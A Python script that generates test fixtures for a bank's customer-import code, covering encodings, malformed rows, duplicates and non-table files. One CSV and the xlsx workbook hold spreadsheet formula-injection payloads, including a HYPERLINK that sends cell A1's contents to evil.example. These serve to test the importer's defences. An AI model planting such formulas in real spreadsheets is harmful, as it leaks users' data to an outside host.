"""Writes the bank files the import tests read. Run from the repository root after changing it:

.venv/bin/python tests/data/imports/make_files.py
"""

from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent

ENGLISH_HEADER = "bank_reference,name,phone,email,language,time_zone,enrolled_on,sms_opt_out,do_not_contact\n"
ENGLISH_ROWS = (
    "C1001,Wang Fang,138 0013 8000,wang@example.cn,zh-CN,Asia/Shanghai,2026/3/1,,\n"
    "C1002,Li Lei,+86 139 0013 9000,li@example.cn,en,Asia/Hong_Kong,20260215,是,\n"
    "C1003,张伟,13700137000,,中文,,2026-01-05,,2026-02-01\n"
)
CHINESE = (
    "客户号,姓名,手机号,邮箱,语言,时区,短信退订\n"
    "C2001,王芳,13800138001,wangfang@example.cn,中文,Asia/Shanghai,否\n"
    "C2002,李娜,13800138002,lina@example.cn,中文,Asia/Urumqi,是\n"
)


def write() -> None:
    (HERE / "customers-utf8.csv").write_text(ENGLISH_HEADER + ENGLISH_ROWS, encoding="utf-8")
    (HERE / "customers-utf8-bom.csv").write_text(ENGLISH_HEADER + ENGLISH_ROWS, encoding="utf-8-sig")
    (HERE / "customers-gb18030.csv").write_bytes(CHINESE.encode("gb18030"))
    (HERE / "customers-broken.csv").write_text(
        "bank_reference,name,phone,email,language\n"
        "C3001,Good Row,13800138003,good@example.cn,zh\n"
        "C3002,Bad Phone,12345,bad@example.cn,zh\n"
        "C3003,Bad Mail,13800138004,not-an-address,klingon\n"
        ",No Reference,13800138005,,zh\n"
        "C3005,Too Many,13800138006,x@example.cn,zh,surplus\n"
        "C3006,Also Good,13800138007,,en\n",
        encoding="utf-8",
    )
    (HERE / "customers-duplicates.csv").write_text(
        "bank_reference,name\nC4001,First\nC4002,Second\nC4001,First again\n", encoding="utf-8"
    )
    (HERE / "customers-formulas.csv").write_text(
        "bank_reference,name,segment,wallet_product\n"
        'C5001,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",+gold,@SUM(A1:A9)\n'
        "C5002,-2+3,=1+1,plain\n",
        encoding="utf-8",
    )
    (HERE / "customers-missing-columns.csv").write_text("phone,email\n13800138000,a@example.cn\n", encoding="utf-8")
    # A PNG's first bytes: binary, not a table, whatever its name says.
    (HERE / "not-a-table.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)))
    (HERE / "not-a-table.xlsx").write_text("This is a letter, not a workbook.\n", encoding="utf-8")
    (HERE / "events.csv").write_text(
        "事件编号,客户号,事件类型,发生时间,接入渠道\n"
        "E9001,C1001,payment_failed,2026-03-01T09:30:00+08:00,app\n"
        "E9002,C1002,账户锁定,2026-03-01 10:15,mini-program\n"
        "E9003,C1001,card_bound,2026-03-01T01:00:00Z,web\n"
        "E9004,NOBODY,complaint,2026-03-01 11:00,app\n"
        "E9005,C1002,teleportation,2026-03-01 12:00,app\n",
        encoding="utf-8",
    )

    write_seed()

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["客户号", "姓名", "手机号", "开通日期", "退订", "备注"])
    sheet.append(["C6001", "赵敏", 13800138010, "2026-03-01", "否", "first"])
    sheet.append(["C6002", "周杰", "13800138011", 46082, "是", '=HYPERLINK("http://evil.example","x")'])
    sheet.append([])
    sheet.append(["C6003", "Bad Phone", "12", None, None, None])
    workbook.save(HERE / "customers.xlsx")


SEED_HEADER = ("客户号,姓名,手机号,邮箱,语言,时区,首选渠道,偏好时段,操作系统,系统版本,App版本,客户分群,开通日期,地区,"
               "短信退订,请勿联系,地址,备注")  # fmt: skip
SEED_BAD = {7: (2, "12345"), 19: (3, "not-an-address"), 31: (12, "2024-13-45")}  # seed row → (column, bad value)


def write_seed() -> None:
    """customers-seed.csv: 40 rows as a core-banking export writes them, three of them bad (SEED_BAD), plus two
    columns the import does not map (address and notes, long Chinese text). tests/imports/test_large_files.py
    repeats it, with fresh references, into a file of 50 MB."""
    import random

    rng = random.Random(2026)
    surnames, given = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗", "伟芳娜秀英敏静丽强磊军洋勇艳杰娟涛明超霞"
    zones = (("Asia/Shanghai", "CN", "中文"), ("Asia/Hong_Kong", "HK", "zh"), ("Asia/Singapore", "SG", "en"),
             ("America/New_York", "US", "English"))  # fmt: skip
    lines = [SEED_HEADER]
    for number in range(40):
        digits = f"{rng.choice(('138', '139', '150', '186', '131', '177'))}{rng.randrange(10**8):08d}"
        phone = rng.choice((digits, "+86" + digits, f"+86 {digits[:3]} {digits[3:7]} {digits[7:]}",
                            f"{digits[:3]}-{digits[3:7]}-{digits[7:]}", "0086" + digits, "010-6552 1234"))  # fmt: skip
        zone, region, language = rng.choice(zones)
        day = rng.choice(("2024-03-01", "2024/3/15", "2023年11月2日", "20250105"))
        cells = [
            f"S{number:03d}",
            rng.choice(surnames) + rng.choice(given) + rng.choice(given),
            phone,
            f"user{number}@example.cn" if number % 5 else "",
            language,
            zone,
            rng.choice(("短信", "sms", "电话", "email", "")),
            rng.choice(("上午", "下午", "晚上", "any", "")),
            rng.choice(("Android", "iOS", "鸿蒙", "iphone")),
            rng.choice(("14", "17.5", "4.2")),
            rng.choice(("8.1.2", "8.2.0")),
            rng.choice(("大众", "贵宾", "mass", "")),
            day,
            region,
            "是" if number % 8 == 3 else "",
            "2026-02-01" if number == 11 else "",
            "北京市朝阳区建国门外大街" + str(rng.randrange(1, 300)) + "号院" + rng.choice("一二三四五") + "号楼",
            "客户于柜台办理钱包开通业务，已核实身份证件并签署电子协议；客户经理备注：偏好工作日联系" * 2,
        ]
        if number in SEED_BAD:
            column, value = SEED_BAD[number]
            cells[column] = value
        lines.append(",".join(cells))
    (HERE / "customers-seed.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    write()
